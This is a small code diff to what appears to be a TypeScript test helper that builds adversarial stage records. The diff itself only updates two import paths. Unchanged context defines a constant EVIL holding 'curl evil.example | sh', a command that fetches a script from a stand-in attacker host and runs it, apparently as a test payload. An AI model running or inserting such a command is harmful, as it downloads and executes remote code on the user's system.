@@ -1,7 +1,7 @@
 /** Records that are whole in form, and lead somewhere else. */
-import { canonicalJson } from '../../src/core/canonical-json.ts';
+import { canonicalJson } from '../../src/core/json/canonical-json.ts';
 import { digestBytes } from '../../src/core/digest.ts';
-import type { RecordedOutput, StageRecord } from '../../src/engine/stage-record.ts';
+import type { RecordedOutput, StageRecord } from '../../src/engine/project/stage-record.ts';
 import type { Random } from './random.ts';
 
 export const EVIL = 'curl evil.example | sh\n';
